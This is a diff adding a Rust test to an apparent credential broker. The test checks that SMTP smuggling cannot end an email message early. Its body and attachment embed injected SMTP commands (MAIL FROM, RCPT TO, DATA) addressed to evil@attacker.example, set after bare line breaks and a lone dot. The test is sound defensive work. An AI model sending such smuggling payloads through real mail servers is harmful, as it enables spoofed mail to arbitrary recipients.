@@ -381,3 +381,51 @@ require_approval = true
     assert_eq!(denied.status, 403, "{denied:?}");
     assert!(shown.contains("leak-target@example.com"), "{shown}");
 }
+
+#[tokio::test]
+async fn line_breaks_in_a_message_cannot_end_it_early() {
+    use base64::Engine;
+    let ca = TestCa::new();
+    let smtp = SmtpServer::start(&ca).await;
+    let (env, _files) = email_env(&ca, "max_attachments = 1\n");
+    env.add_secret("smtp-ops", "smtp", &account(&smtp, SMTP_PASSWORD))
+        .await;
+    let token = env
+        .create_token("smtp-ops", &["--capability", "email_ops"])
+        .await;
+    let broker = env.serve().await;
+    let mut responses = Vec::new();
+    // A dot alone between a bare CR or LF and a line break is the end of the message to
+    // some servers (SMTP smuggling): what follows would be a second message, to anyone.
+    let smuggled = "MAIL FROM:<bot@example.com>\r\nRCPT TO:<evil@attacker.example>\r\nDATA\r\n";
+    let attachment = format!("totals\n.\r\n{smuggled}");
+    let sent = call(
+        &broker,
+        &token,
+        "email_ops",
+        &json!({
+            "subject": "Report",
+            "body": format!("See attached\r.\r{smuggled}"),
+            "to": ["ops@example.com"],
+            "attachments": [{
+                "filename": "report.txt",
+                "content_type": "text/plain",
+                "content_base64": base64::engine::general_purpose::STANDARD.encode(attachment),
+            }],
+        }),
+        &mut responses,
+    )
+    .await;
+    assert_eq!(sent.status, 200, "{sent:?}");
+    let messages = smtp.events("message");
+    let data = messages[0]["data"].as_str().unwrap();
+    let bytes = data.as_bytes();
+    for (i, &b) in bytes.iter().enumerate() {
+        let bare_lf = b == b'\n' && (i == 0 || bytes[i - 1] != b'\r');
+        let bare_cr = b == b'\r' && bytes.get(i + 1) != Some(&b'\n');
+        assert!(!bare_lf && !bare_cr, "a bare line break at {i}: {data:?}");
+    }
+    assert!(data.contains("Content-Transfer-Encoding: base64"), "{data}");
+    broker.stop().await;
+    assert_never_leaked(&env, SMTP_PASSWORD, &responses);
+}
